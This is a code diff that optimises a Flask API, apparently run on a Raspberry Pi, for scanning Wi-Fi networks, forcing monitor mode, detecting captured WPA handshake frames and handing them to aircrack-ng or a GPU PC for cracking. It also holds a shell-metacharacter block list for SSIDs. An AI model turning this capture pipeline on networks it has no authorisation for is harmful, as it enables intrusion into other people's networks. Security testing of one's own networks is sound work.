@@ -14,13 +14,43 @@ Assumes:
 - Tools: iw, airodump-ng, aircrack-ng present (optional; attack can be fake-simulated)
 """
 
-import os, re, json, time, threading, subprocess, shlex, signal, logging, hashlib
+import os, re, json, time, threading, subprocess, shlex, signal, logging, hashlib, functools, asyncio, mmap, struct, shutil
+import concurrent.futures
 from pathlib import Path
 from datetime import datetime, timedelta
 from functools import wraps
-from flask import Flask, jsonify, request
+from flask import Flask, jsonify, request, send_file
 from flask_cors import CORS
 
+# Optional: orjson serializes the polled status payloads 2-5x faster than
+# the stdlib json module Flask's jsonify uses
+try:
+    import orjson
+except ImportError:
+    orjson = None
+
+# Optional: blake3 digests captures 5-10x faster than sha256 on the Pi
+# (NEON-accelerated, multi-core tree hash)
+try:
+    from blake3 import blake3 as _capture_hash
+except ImportError:
+    _capture_hash = hashlib.sha256
+
+# Optional: inotify lets capture-file waits return the moment airodump-ng
+# writes data instead of sleeping out a fixed window
+try:
+    from inotify_simple import INotify as _INotify, flags as _inotify_flags
+except ImportError:
+    _INotify = None
+
+# Optional: pyroute2 lets us keep ONE persistent nl80211 socket for interface
+# state queries instead of fork+exec'ing iw for every info check
+try:
+    from pyroute2 import IW as _PyrouteIW
+    _iw_sock = _PyrouteIW()
+except Exception:
+    _iw_sock = None
+
 # Load environment variables from config.env file
 def load_config_env():
     """Load environment variables from config.env file"""
@@ -51,6 +81,8 @@ ATTACK_TIMEOUT_SEC = int(os.environ.get("ATTACK_TIMEOUT", "900"))  # 15 min max
 API_KEY = os.environ.get("API_KEY", "your-secret-api-key")
 WORDLIST_DIR = os.environ.get("WORDLIST_DIR", "/usr/share/wordlists")
 RATE_LIMIT_PER_MINUTE = int(os.environ.get("RATE_LIMIT", "200"))  # Allow more requests for polling
+VALIDATE_CPUS = os.environ.get("VALIDATE_CPUS", "2,3")  # cores for CPU-bound capture analysis
+NETWORK_SCAN_TTL = int(os.environ.get("NETWORK_SCAN_TTL", "300"))  # network cache freshness window
 
 # GPU PC Integration Settings
 GPU_PC_IP = os.environ.get("GPU_PC_IP", "")
@@ -74,6 +106,9 @@ logger = logging.getLogger(__name__)
 
 # --------------- GLOBAL STATE -----------
 state_lock = threading.Lock()
+# Set by /gpu_result when the GPU PC reports back, so wait_for_gpu_result
+# wakes immediately instead of polling the state dict every 2s
+gpu_result_event = threading.Event()
 attack_state = {
     "running": False,
     "step": "idle",
@@ -82,6 +117,7 @@ attack_state = {
     "result": "",
     "start_ts": 0,
     "proc_pids": [],   # pids we spawned
+    "proc_pidfds": {}, # pid -> pidfd for race-free signalling (kernel >= 5.3)
     "last_update": 0,  # timestamp of last progress update
     "sub_progress": 0, # sub-step progress for detailed tracking
     "phase": "idle",   # high-level phase: scan, capture, crack, gpu_cracking, done
@@ -91,15 +127,75 @@ attack_state = {
     "networks_found": 0,
     "target_bssid": "",
     "gpu_processing": False,  # true when GPU PC is processing
-    "gpu_result": None        # result from GPU PC
+    "gpu_result": None,       # result from GPU PC
+    "_rev": 0                 # bumped on every mutation; lets pollers cache
 }
 
-# Global network storage for pagination
+# RCU-style read snapshot: writers (under state_lock) rebind this to a fresh
+# dict via _bump_rev; pollers read the reference with no lock at all, since
+# rebinding is atomic under the GIL and the old dict stays immutable to them
+attack_snapshot = dict(attack_state)
+
+def _bump_rev():
+    """Mark attack_state as changed and publish a fresh read snapshot.
+
+    Call with state_lock held.
+    """
+    global attack_snapshot
+    attack_state["_rev"] += 1
+    attack_snapshot = dict(attack_state)
+
+# Global network storage for pagination. Published as an immutable snapshot
+# (same pattern as attack_snapshot): the scan builds a whole new dict and
+# rebinds the global in one GIL-atomic assignment, so readers never need the
+# scan lock - it only dedupes concurrent scans.
 networks_cache = {
-    "networks": [],
+    "networks": (),
     "last_scan": 0,
-    "scan_lock": threading.Lock()
+    "pages": {},     # page number -> pre-rendered text for /networks/page/N
+    "all_text": "",  # pre-rendered body for /networks
 }
+_net_scan_lock = threading.Lock()
+
+# Scan results survive process restarts via a tmpfs-backed snapshot file.
+# We deliberately run a single gunicorn worker (attack state is in-process),
+# but --reuse-port zero-downtime restarts replace that worker - without this
+# the new instance starts cold and the first /networks call pays a full 20s
+# iw scan the old process had already done.
+_SCAN_CACHE_FILE = "/dev/shm/pistorm-scan-cache.json"
+
+def _save_scan_cache(cache):
+    # stdlib json, not _serialize_cached: "pages" is keyed by int, which
+    # orjson refuses to serialize. This runs once per 20s scan, so the
+    # speed of the serializer is irrelevant here.
+    try:
+        tmp = _SCAN_CACHE_FILE + ".tmp"
+        with open(tmp, "w") as f:
+            f.write(json.dumps(cache))
+        os.replace(tmp, _SCAN_CACHE_FILE)
+    except (OSError, TypeError, ValueError) as e:
+        logger.debug(f"Could not persist scan cache: {e}")
+
+def _load_scan_cache():
+    """Return the persisted scan snapshot if it is still inside the TTL"""
+    try:
+        if time.time() - os.stat(_SCAN_CACHE_FILE).st_mtime >= NETWORK_SCAN_TTL:
+            return None
+        with open(_SCAN_CACHE_FILE, "rb") as f:
+            raw = json.loads(f.read())
+        return {
+            "networks": tuple(raw["networks"]),
+            "last_scan": raw["last_scan"],
+            "pages": {int(k): v for k, v in raw["pages"].items()},
+            "all_text": raw["all_text"],
+        }
+    except (OSError, ValueError, KeyError):
+        return None
+
+_persisted_scan = _load_scan_cache()
+if _persisted_scan is not None:
+    networks_cache = _persisted_scan
+del _persisted_scan
 
 # Rate limiting state
 rate_limit_state = {
@@ -113,10 +209,125 @@ interface_state = {
     "mon_iface": None,
     "available_interfaces": [],
     "tools_checked": False,
-    "required_tools": ["iw", "airodump-ng", "aircrack-ng"]
+    "required_tools": ["iw", "airodump-ng", "aircrack-ng"],
+    "version": 0  # bumped when interface facts change; invalidates cached bodies
 }
 
 # -------------- HELPERS -----------------
+# Patterns used on every scan - compiled once at module load instead of
+# per line inside the parsing loops
+_IP_LINK_IFACE_RE = re.compile(r'\d+: ([^:]+):')
+_IFACE_TYPE_RE = re.compile(r'^\s*type (\w+)', re.M)
+_CHANNEL_RE = re.compile(r'Channel:?(\d+)')
+_FREQ_GHZ_RE = re.compile(r'(\d+\.\d+) GHz')
+_KEY_FOUND_RE = re.compile(r"KEY FOUND!\s*\[\s*(.+?)\s*\]")
+# Matches a whole `BSS <mac> ... SSID: <ssid>` block so the SSID->BSSID map
+# can be built in one findall sweep instead of a per-line Python loop
+_BSS_BLOCK_RE = re.compile(r'BSS\s+([0-9a-f:]{17}).*?SSID:\s*([^\n]*)',
+                           re.DOTALL | re.IGNORECASE)
+
+_HEX_DIGITS = frozenset("0123456789abcdefABCDEF")
+_MAC_HEX_POSITIONS = (0, 1, 3, 4, 6, 7, 9, 10, 12, 13, 15, 16)
+
+def _parse_bssid(token):
+    """Extract a MAC from a BSS header token without the regex engine.
+
+    iw prints tokens like 'aa:bb:cc:dd:ee:ff(on wlan0)'; the MAC is always
+    the first 17 characters, so direct position checks beat a regex search.
+    Returns the lowercased MAC or None.
+    """
+    if len(token) < 17:
+        return None
+    mac = token[:17]
+    if mac[2] != ':' or mac[5] != ':' or mac[8] != ':' or mac[11] != ':' or mac[14] != ':':
+        return None
+    for i in _MAC_HEX_POSITIONS:
+        if mac[i] not in _HEX_DIGITS:
+            return None
+    return mac.lower()
+
+def _has_net_admin():
+    """True when this process can drive the wireless stack itself.
+
+    Checks effective UID and CAP_NET_ADMIN in CapEff - granted either by
+    running as root or via AmbientCapabilities in the systemd unit.
+    """
+    if os.geteuid() == 0:
+        return True
+    try:
+        with open("/proc/self/status") as f:
+            for line in f:
+                if line.startswith("CapEff:"):
+                    return bool(int(line.split()[1], 16) & (1 << 12))  # CAP_NET_ADMIN
+    except (OSError, ValueError, IndexError):
+        pass
+    return False
+
+# Each sudo-wrapped scan pays a fork+exec of sudo plus PAM/policy parsing -
+# tens of ms on a Pi. Skip the prefix when the service already holds
+# CAP_NET_ADMIN (see AmbientCapabilities in pistorm-api.service).
+SUDO = "" if _has_net_admin() else "sudo "
+
+# Tool paths and driver capabilities don't change while the API is running,
+# so cache the probe results instead of spawning processes on every re-init
+@functools.lru_cache(maxsize=None)
+def _which(tool):
+    """Cached `which` lookup - tool paths never change at runtime"""
+    rc, out, _ = run_cmd(f"which {tool}", timeout=5)
+    return rc, out.strip()
+
+@functools.lru_cache(maxsize=None)
+def _iface_is_wireless(iface):
+    """Cached wireless capability check via sysfs"""
+    return os.path.exists(f"/sys/class/net/{iface}/wireless")
+
+try:
+    _VALIDATE_CPUSET = {int(c) for c in VALIDATE_CPUS.split(",")}
+except ValueError:
+    _VALIDATE_CPUSET = set()
+
+def _pin_cmd(cmd):
+    """Prefix CPU-bound analysis commands with taskset for predictable latency"""
+    if _VALIDATE_CPUSET:
+        rc, _ = _which("taskset")
+        if rc == 0:
+            return f"taskset -c {VALIDATE_CPUS} {cmd}"
+    return cmd
+
+# nl80211 interface types we care about (NL80211_ATTR_IFTYPE values)
+_NL80211_IFTYPES = {1: "adhoc", 2: "managed", 3: "ap", 6: "monitor"}
+
+def get_iface_type(iface):
+    """Return the wireless interface type ('monitor', 'managed', ...) or None.
+
+    Queries the persistent netlink socket when pyroute2 is available - one
+    round trip, no fork+exec - and falls back to shelling out to iw.
+    """
+    if _iw_sock is not None:
+        try:
+            attrs = dict(_iw_sock.get_interface_by_ifname(iface)[0]['attrs'])
+            return _NL80211_IFTYPES.get(attrs.get('NL80211_ATTR_IFTYPE'))
+        except Exception:
+            pass  # fall through to iw
+    rc, out, _ = run_cmd(f"iw dev {iface} info", timeout=5)
+    if rc == 0:
+        match = _IFACE_TYPE_RE.search(out)
+        if match:
+            return match.group(1)
+    return None
+
+def _clear_probe_caches(*_args):
+    """Invalidate cached probes (wired to SIGHUP for manual refresh)"""
+    _which.cache_clear()
+    _iface_is_wireless.cache_clear()
+    logger.info("Cleared tool/interface probe caches")
+
+try:
+    signal.signal(signal.SIGHUP, _clear_probe_caches)
+except (ValueError, AttributeError):
+    # Not in main thread / platform without SIGHUP - caches just stay warm
+    pass
+
 def detect_interfaces():
     """Auto-detect available wireless interfaces"""
     interfaces = []
@@ -128,8 +339,7 @@ def detect_interfaces():
                 if "Interface" in line:
                     iface = line.strip().split()[-1]
                     # Verify it's a wireless interface
-                    rc2, out2, _ = run_cmd(f"iw dev {iface} info", timeout=5)
-                    if rc2 == 0 and "type" in out2.lower():
+                    if get_iface_type(iface):
                         interfaces.append(iface)
                         logger.info(f"Found wireless interface: {iface}")
         
@@ -140,11 +350,11 @@ def detect_interfaces():
             if rc == 0:
                 for line in out.splitlines():
                     if "wlan" in line or "wlp" in line:
-                        match = re.search(r'\d+: ([^:]+):', line)
+                        match = _IP_LINK_IFACE_RE.search(line)
                         if match:
                             iface = match.group(1)
                             # Verify interface exists and is wireless
-                            if os.path.exists(f"/sys/class/net/{iface}/wireless"):
+                            if _iface_is_wireless(iface):
                                 interfaces.append(iface)
                                 logger.info(f"Found wireless interface: {iface}")
         
@@ -153,12 +363,16 @@ def detect_interfaces():
         logger.error(f"Failed to detect interfaces: {e}")
     return interfaces
 
+# Shell metacharacters rejected in SSIDs; a frozenset intersection beats a
+# per-character `in` scan rebuilt on every call
+_SSID_BAD_CHARS = frozenset(";&|`$()\n\r")
+
 def validate_ssid(ssid):
     """Validate SSID input to prevent injection"""
     if not ssid or len(ssid) > 32:
         return False, "SSID must be 1-32 characters"
     # Check for dangerous characters
-    if any(char in ssid for char in [';', '&', '|', '`', '$', '(', ')', '\n', '\r']):
+    if _SSID_BAD_CHARS.intersection(ssid):
         return False, "SSID contains invalid characters"
     return True, "Valid"
 
@@ -193,70 +407,108 @@ def verify_monitor_capture(interface):
         logger.error(f"Monitor verification error: {e}")
         return False
 
+async def _run_cmd_a(cmd, timeout=30):
+    """Async variant of run_cmd - sleeps and waits yield the thread.
+
+    Used by the interface mode sequences so their mandatory settle delays
+    don't block the Flask worker serving concurrent /status polls.
+    """
+    try:
+        logger.debug(f"Running command (async): {cmd}")
+
+        # Handle shell syntax (pipes/redirects) like run_cmd does
+        if "|" in cmd or ">" in cmd:
+            proc = await asyncio.create_subprocess_shell(
+                cmd, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE)
+        else:
+            proc = await asyncio.create_subprocess_exec(
+                *shlex.split(cmd), stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE)
+
+        try:
+            out_b, err_b = await asyncio.wait_for(proc.communicate(), timeout)
+        except asyncio.TimeoutError:
+            try:
+                proc.kill()
+                await proc.wait()
+            except:
+                pass
+            logger.error(f"Command timeout after {timeout}s: {cmd}")
+            return -1, "", "timeout"
+
+        out = out_b.decode(errors="replace")
+        err = err_b.decode(errors="replace")
+        if proc.returncode != 0 and err:
+            logger.warning(f"Command failed: {cmd}, stderr: {err}")
+        return proc.returncode, out, err
+    except Exception as e:
+        logger.error(f"Command failed: {cmd}, error: {e}")
+        return -1, "", str(e)
+
 def setup_monitor_mode(interface):
     """Set interface to monitor mode - ROBUST VERSION FOR REAL PACKET CAPTURE"""
+    return asyncio.run(_setup_monitor_mode_a(interface))
+
+async def _setup_monitor_mode_a(interface):
     try:
         logger.info(f"Setting {interface} to monitor mode - KILLING INTERFERING PROCESSES")
-        
+
         # CRITICAL: Kill all interfering processes first
         interfering_processes = [
             "sudo pkill -f wpa_supplicant",
-            "sudo pkill -f NetworkManager", 
+            "sudo pkill -f NetworkManager",
             "sudo systemctl stop NetworkManager 2>/dev/null || true",
             "sudo systemctl stop wpa_supplicant 2>/dev/null || true",
         ]
-        
+
         for cmd in interfering_processes:
             logger.info(f"Running: {cmd}")
-            run_cmd(cmd, timeout=10)
-            time.sleep(0.5)
-        
+            await _run_cmd_a(cmd, timeout=10)
+            await asyncio.sleep(0.5)
+
         # Check if interface exists
-        rc_check, _, _ = run_cmd(f"ip link show {interface}", timeout=5)
+        rc_check, _, _ = await _run_cmd_a(f"ip link show {interface}", timeout=5)
         if rc_check != 0:
             logger.error(f"Interface {interface} does not exist")
             return False
-        
+
         # Check current mode
-        rc_info, out_info, _ = run_cmd(f"iw dev {interface} info", timeout=5)
-        if rc_info == 0 and "type monitor" in out_info:
+        if get_iface_type(interface) == "monitor":
             logger.info(f"Interface {interface} already in monitor mode")
             # Still verify it can capture packets
             if verify_monitor_capture(interface):
                 return True
             else:
                 logger.warning("Monitor mode set but cannot capture packets, resetting...")
-        
+
         logger.info("🔧 ROBUST MONITOR MODE SETUP - NO FAKE DATA")
-        
+
         # Full interface reset
         logger.info("⬇️ Taking interface down completely...")
-        run_cmd(f"sudo ip link set {interface} down", timeout=10)
-        time.sleep(2)
-        
+        await _run_cmd_a(f"sudo ip link set {interface} down", timeout=10)
+        await asyncio.sleep(2)
+
         # Remove from any master/bridge
-        run_cmd(f"sudo ip link set {interface} nomaster", timeout=5)
-        
+        await _run_cmd_a(f"sudo ip link set {interface} nomaster", timeout=5)
+
         # Set to monitor mode
         logger.info("📡 Setting monitor mode...")
-        rc2, out2, err2 = run_cmd(f"sudo iw dev {interface} set type monitor", timeout=10)
+        rc2, out2, err2 = await _run_cmd_a(f"sudo iw dev {interface} set type monitor", timeout=10)
         if rc2 != 0:
             logger.error(f"Failed to set monitor mode: {err2}")
             return False
-        
+
         # Bring interface up
         logger.info("⬆️ Bringing interface up...")
-        rc3, out3, err3 = run_cmd(f"sudo ip link set {interface} up", timeout=10)
+        rc3, out3, err3 = await _run_cmd_a(f"sudo ip link set {interface} up", timeout=10)
         if rc3 != 0:
             logger.error(f"Failed to bring interface up: {err3}")
             return False
-        
+
         # Wait for interface to stabilize
-        time.sleep(3)
-        
+        await asyncio.sleep(3)
+
         # Verify monitor mode was set
-        rc_verify, out_verify, _ = run_cmd(f"iw dev {interface} info", timeout=5)
-        if rc_verify == 0 and "type monitor" in out_verify:
+        if get_iface_type(interface) == "monitor":
             logger.info(f"✅ Successfully set {interface} to monitor mode")
             
             # CRITICAL: Verify it can actually capture packets
@@ -276,58 +528,67 @@ def setup_monitor_mode(interface):
 
 def setup_managed_mode(interface):
     """Set interface back to managed mode"""
+    return asyncio.run(_setup_managed_mode_a(interface))
+
+async def _setup_managed_mode_a(interface):
     try:
         logger.info(f"Setting {interface} to managed mode")
-        
+
         # Check if interface exists
-        rc_check, _, _ = run_cmd(f"ip link show {interface}", timeout=5)
+        rc_check, _, _ = await _run_cmd_a(f"ip link show {interface}", timeout=5)
         if rc_check != 0:
             logger.error(f"Interface {interface} does not exist")
             return False
-        
+
         # Check current mode
-        rc_info, out_info, _ = run_cmd(f"iw dev {interface} info", timeout=5)
-        if rc_info == 0 and "type managed" in out_info:
+        if get_iface_type(interface) == "managed":
             logger.info(f"Interface {interface} already in managed mode")
             return True
-        
+
         # Bring interface down
-        rc1, _, err1 = run_cmd(f"sudo ip link set {interface} down", timeout=10)
+        rc1, _, err1 = await _run_cmd_a(f"sudo ip link set {interface} down", timeout=10)
         if rc1 != 0:
             logger.error(f"Failed to bring interface down: {err1}")
             return False
-        
+
         # Set to managed mode
-        rc2, _, err2 = run_cmd(f"sudo iw dev {interface} set type managed", timeout=10)
+        rc2, _, err2 = await _run_cmd_a(f"sudo iw dev {interface} set type managed", timeout=10)
         if rc2 != 0:
             logger.error(f"Failed to set managed mode: {err2}")
             return False
-        
+
         # Bring interface up
-        rc3, _, err3 = run_cmd(f"sudo ip link set {interface} up", timeout=10)
+        rc3, _, err3 = await _run_cmd_a(f"sudo ip link set {interface} up", timeout=10)
         if rc3 != 0:
             logger.error(f"Failed to bring interface up: {err3}")
             return False
-        
+
         # Verify managed mode was set
-        time.sleep(1)
-        rc_verify, out_verify, _ = run_cmd(f"iw dev {interface} info", timeout=5)
-        if rc_verify == 0 and "type managed" in out_verify:
+        await asyncio.sleep(1)
+        if get_iface_type(interface) == "managed":
             logger.info(f"Successfully set {interface} to managed mode")
             return True
         else:
             logger.error(f"Managed mode verification failed for {interface}")
             return False
-            
+
     except Exception as e:
         logger.error(f"Exception setting managed mode: {e}")
         return False
 
+def setup_managed_mode_all(*interfaces):
+    """Reset several interfaces to managed mode concurrently"""
+    async def _all():
+        results = await asyncio.gather(
+            *(_setup_managed_mode_a(iface) for iface in dict.fromkeys(interfaces) if iface))
+        return all(results)
+    return asyncio.run(_all())
+
 def check_required_tools():
     """Verify aircrack-ng suite is installed"""
     missing_tools = []
     for tool in interface_state["required_tools"]:
-        rc, _, _ = run_cmd(f"which {tool}", timeout=5)
+        rc, _ = _which(tool)
         if rc != 0:
             missing_tools.append(tool)
     
@@ -366,6 +627,54 @@ def get_available_wordlists():
     logger.info(f"Found {len(available)} unique wordlists")
     return available
 
+# LLC/SNAP header that prefixes EAPOL (0x888e) payloads inside 802.11 data
+# frames - a cheap fingerprint for handshake frames in a raw capture
+_EAPOL_SNAP = b"\xaa\xaa\x03\x00\x00\x00\x88\x8e"
+
+def _capture_has_handshake_frames(cap_file_base, min_frames=2):
+    """Cheap check for EAPOL frames in a still-growing airodump capture.
+
+    Scans the mmap'd file for the LLC/SNAP EAPOL fingerprint instead of
+    spawning aircrack-ng - fast enough to poll every couple of seconds.
+    aircrack needs at least an M2/M3 pair, so require min_frames matches.
+    """
+    for suffix in ("-01.cap", ".cap", "-01.pcap", ".pcap"):
+        cap_path = Path(str(cap_file_base) + suffix)
+        try:
+            if cap_path.stat().st_size < 64:
+                continue
+            with open(cap_path, "rb") as f:
+                mm = mmap.mmap(f.fileno(), 0, access=mmap.ACCESS_READ)
+                try:
+                    # mmap has find but no count - walk the matches
+                    hits = 0
+                    off = mm.find(_EAPOL_SNAP)
+                    while off != -1:
+                        hits += 1
+                        if hits >= min_frames:
+                            return True
+                        off = mm.find(_EAPOL_SNAP, off + 1)
+                finally:
+                    mm.close()
+        except (OSError, ValueError):
+            continue
+    return False
+
+def _sleep_until_handshake(cap_file_base, max_wait, poll=2.0):
+    """Sleep up to max_wait seconds, returning early once EAPOL frames land.
+
+    The fixed capture sleeps are upper bounds, not requirements - if the
+    handshake is already on disk there is no point waiting out the timer.
+    Returns True if handshake frames were seen.
+    """
+    deadline = time.time() + max_wait
+    while time.time() < deadline:
+        if _capture_has_handshake_frames(cap_file_base):
+            logger.info("🤝 EAPOL frames present in capture - ending wait early")
+            return True
+        time.sleep(min(poll, max(0.1, deadline - time.time())))
+    return _capture_has_handshake_frames(cap_file_base)
+
 def validate_handshake(cap_file, target_bssid=None):
     """Validate that capture file contains WPA handshake and analyze encryption"""
     try:
@@ -375,8 +684,8 @@ def validate_handshake(cap_file, target_bssid=None):
         cmd = f"aircrack-ng -q {cap_file}"
         if target_bssid:
             cmd += f" -b {target_bssid}"
-        
-        rc, out, err = run_cmd(cmd, timeout=15)
+
+        rc, out, err = run_cmd(_pin_cmd(cmd), timeout=15)
         
         # Log full output for debugging
         logger.info(f"Aircrack output: {out}")
@@ -419,7 +728,7 @@ def analyze_encryption_type(cap_file):
             return "tshark not available"
         
         # Check for WPA2/WPA3 indicators
-        rc, out, _ = run_cmd(f"tshark -r {cap_file} -Y 'wlan.rsn.version' -T fields -e wlan.rsn.version", timeout=10)
+        rc, out, _ = run_cmd(_pin_cmd(f"tshark -r {cap_file} -Y 'wlan.rsn.version' -T fields -e wlan.rsn.version"), timeout=10)
         if rc == 0 and out.strip():
             versions = set(out.strip().split('\n'))
             if '1' in versions:
@@ -428,7 +737,7 @@ def analyze_encryption_type(cap_file):
                 return "WPA3 detected"
         
         # Check for EAPOL frames
-        rc, out, _ = run_cmd(f"tshark -r {cap_file} -Y 'eapol' | wc -l", timeout=10)
+        rc, out, _ = run_cmd(_pin_cmd(f"tshark -r {cap_file} -Y 'eapol'") + " | wc -l", timeout=10)
         if rc == 0 and out.strip():
             eapol_count = int(out.strip()) if out.strip().isdigit() else 0
             if eapol_count > 0:
@@ -438,19 +747,95 @@ def analyze_encryption_type(cap_file):
     except Exception as e:
         return f"Analysis failed: {e}"
 
+# Classic pcap magic numbers (little/big endian, micro/nanosecond variants)
+_PCAP_MAGIC_LE = (0xa1b2c3d4, 0xa1b23c4d)
+_PCAP_MAGIC_BE = (0xd4c3b2a1, 0x4d3cb2a1)
+
 def count_packets_in_capture(cap_file):
-    """Count different packet types in capture"""
+    """Count packets in capture via a direct pcap record walk.
+
+    A pcap file is a 24-byte global header plus 16-byte per-packet records
+    whose incl_len field gives the next offset - counting is pure integer
+    arithmetic over an mmap, no tcpdump fork and no frame decoding.
+    """
     try:
-        # Use tcpdump if tshark not available
-        rc, out, _ = run_cmd(f"tcpdump -r {cap_file} -c 1000 | wc -l", timeout=10)
+        with open(cap_file, 'rb') as f:
+            size = os.fstat(f.fileno()).st_size
+            if size >= 24:
+                mm = mmap.mmap(f.fileno(), 0, access=mmap.ACCESS_READ)
+                try:
+                    magic, = struct.unpack_from('<I', mm, 0)
+                    if magic in _PCAP_MAGIC_LE or magic in _PCAP_MAGIC_BE:
+                        fmt = '<I' if magic in _PCAP_MAGIC_LE else '>I'
+                        off = 24
+                        count = 0
+                        while off + 16 <= size:
+                            incl_len, = struct.unpack_from(fmt, mm, off + 8)
+                            off += 16 + incl_len
+                            count += 1
+                        return f"Total packets: {count}"
+                finally:
+                    mm.close()
+
+        # Not a classic pcap (e.g. pcapng) - fall back to tcpdump
+        rc, out, _ = run_cmd(_pin_cmd(f"tcpdump -r {cap_file} -c 1000") + " | wc -l", timeout=10)
         if rc == 0 and out.strip():
             total_packets = out.strip()
             return f"Total packets: {total_packets}"
-        
+
         return "Packet count unavailable"
     except Exception as e:
         return f"Count failed: {e}"
 
+def _wait_for_capture_file(paths, min_size, deadline):
+    """Wait for one of `paths` to appear and grow past `min_size` bytes.
+
+    Uses inotify on the parent directory when available so we wake exactly
+    when the writer produces data; otherwise falls back to short-interval
+    stat polling. On deadline, returns whichever path exists (even if still
+    small) so callers can report undersized captures, or None.
+    """
+    end = time.time() + deadline
+
+    def _grown():
+        for p in paths:
+            try:
+                if os.stat(p).st_size >= min_size:
+                    return p
+            except FileNotFoundError:
+                continue
+        return None
+
+    def _any_existing():
+        for p in paths:
+            if os.path.exists(p):
+                return p
+        return None
+
+    if _INotify is not None:
+        try:
+            with _INotify() as ino:
+                watch_dir = os.path.dirname(paths[0]) or "."
+                ino.add_watch(watch_dir,
+                              _inotify_flags.CREATE | _inotify_flags.MODIFY | _inotify_flags.CLOSE_WRITE)
+                while True:
+                    found = _grown()
+                    if found:
+                        return found
+                    remaining_ms = (end - time.time()) * 1000
+                    if remaining_ms <= 0:
+                        return _any_existing()
+                    ino.read(timeout=remaining_ms)
+        except OSError as e:
+            logger.debug(f"inotify wait unavailable ({e}), polling instead")
+
+    while time.time() < end:
+        found = _grown()
+        if found:
+            return found
+        time.sleep(0.5)
+    return _any_existing()
+
 def test_monitor_mode_capability(mon_iface):
     """Test if monitor mode is working properly"""
     logger.info(f"🧪 Testing monitor mode capability for {mon_iface}")
@@ -469,22 +854,30 @@ def test_monitor_mode_capability(mon_iface):
         run_cmd(f"sudo iwconfig {mon_iface} channel 6", timeout=5)
         time.sleep(2)
         
-        # 3. Test packet capture for 10 seconds
-        logger.info(f"Testing packet capture on {mon_iface} for 10 seconds...")
+        # 3. Test packet capture - up to 10 seconds, but return as soon as
+        # airodump has actually written data
+        logger.info(f"Testing packet capture on {mon_iface} (up to 10 seconds)...")
         test_cap_base = "/tmp/monitor_test"
-        
-        cmd = f"timeout 10 sudo airodump-ng -w {test_cap_base} --output-format pcap --channel 6 {mon_iface}"
-        rc, out, err = run_cmd(cmd, timeout=15)
-        
-        # 4. Check results
         test_files = [f"{test_cap_base}-01.cap", f"{test_cap_base}.cap"]
-        captured_file = None
-        
-        for test_file in test_files:
-            if os.path.exists(test_file):
-                captured_file = test_file
-                break
-        
+
+        proc = subprocess.Popen(
+            shlex.split(f"sudo airodump-ng -w {test_cap_base} --output-format pcap --channel 6 {mon_iface}"),
+            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
+            preexec_fn=os.setsid
+        )
+
+        # 4. Wait for the capture file instead of sleeping the full window
+        captured_file = _wait_for_capture_file(test_files, min_size=150, deadline=10)
+
+        try:
+            os.killpg(proc.pid, signal.SIGTERM)
+            proc.wait(timeout=5)
+        except Exception:
+            try:
+                proc.kill()
+            except Exception:
+                pass
+
         if captured_file:
             size = os.path.getsize(captured_file)
             logger.info(f"Monitor test captured {size} bytes")
@@ -567,31 +960,34 @@ def initialize_interfaces():
         logger.error(f"❌ Monitor mode test FAILED for {mon_iface}")
         logger.error("This will affect handshake capture capability!")
     
-    # Reset to managed mode after testing
-    setup_managed_mode(mon_iface)
+    # Reset to managed mode after testing (both interfaces in parallel)
+    setup_managed_mode_all(mon_iface, interface_state["scan_iface"])
+    interface_state["version"] += 1
 
 def check_rate_limit(client_ip):
     """Check if client has exceeded rate limit"""
     with rate_limit_state["lock"]:
-        now = datetime.now()
-        cutoff = now - timedelta(minutes=1)
-        
+        # Integer nanosecond timestamps: no datetime allocation per request
+        # and immune to NTP step adjustments, unlike datetime.now()
+        now_ns = time.monotonic_ns()
+        cutoff_ns = now_ns - 60_000_000_000
+
         # Initialize if not exists
         if client_ip not in rate_limit_state["requests"]:
             rate_limit_state["requests"][client_ip] = []
-        
+
         # Remove old requests
         rate_limit_state["requests"][client_ip] = [
-            req_time for req_time in rate_limit_state["requests"][client_ip]
-            if req_time > cutoff
+            req_ns for req_ns in rate_limit_state["requests"][client_ip]
+            if req_ns > cutoff_ns
         ]
-        
+
         # Check limit
         if len(rate_limit_state["requests"][client_ip]) >= RATE_LIMIT_PER_MINUTE:
             return False
-        
+
         # Add current request
-        rate_limit_state["requests"][client_ip].append(now)
+        rate_limit_state["requests"][client_ip].append(now_ns)
         return True
 
 def require_api_key(f):
@@ -621,7 +1017,14 @@ def run_cmd(cmd, timeout=30):
         if "|" in cmd:
             proc = subprocess.Popen(cmd, shell=True, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
         else:
-            proc = subprocess.Popen(shlex.split(cmd), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+            # close_fds=False (with no preexec_fn) lets CPython dispatch to
+            # os.posix_spawn instead of fork+exec - fork copies page tables
+            # proportional to this process's RSS, a real stall on the Pi for
+            # something called as often as `iw scan`. We open no inheritable
+            # fds beyond the standard trio, so leaking fds is not a concern.
+            proc = subprocess.Popen(shlex.split(cmd), stdout=subprocess.PIPE,
+                                    stderr=subprocess.PIPE, text=True,
+                                    close_fds=False)
         
         out, err = proc.communicate(timeout=timeout)
         logger.debug(f"Command result: rc={proc.returncode}, stdout_len={len(out)}, stderr_len={len(err)}")
@@ -642,38 +1045,65 @@ def run_cmd(cmd, timeout=30):
         logger.error(f"Command failed: {cmd}, error: {e}")
         return -1, "", str(e)
 
+def run_cmd_streaming(cmd, timeout=30):
+    """Run command and yield stdout lines as they arrive.
+
+    Lets parsers start on the first line before the tool finishes instead
+    of buffering the full output in memory. Raises RuntimeError when the
+    command exits non-zero or is killed by the timeout watcher.
+    """
+    logger.debug(f"Streaming command: {cmd}")
+    proc = subprocess.Popen(shlex.split(cmd), stdout=subprocess.PIPE,
+                            stderr=subprocess.DEVNULL, text=True, bufsize=1,
+                            close_fds=False)  # posix_spawn fast path
+    timer = threading.Timer(timeout, proc.kill)
+    timer.start()
+    try:
+        for line in proc.stdout:
+            yield line
+    finally:
+        timer.cancel()
+        proc.stdout.close()
+        rc = proc.wait()
+    if rc != 0:
+        raise RuntimeError(f"command failed (rc={rc}): {cmd}")
+
+_BSS_SPLIT_RE = re.compile(r"^BSS ", re.M)
+_SSID_LINE_RE = re.compile(r"^\s*SSID:[ \t]*(\S.*?)\s*$", re.M)
+_SIGNAL_LINE_RE = re.compile(r"^\s*signal:\s*(-?\d+)", re.M)
+# One alternation scan for the WPA/RSN markers instead of two separate
+# full-block substring searches; WPA still wins over WEP like before
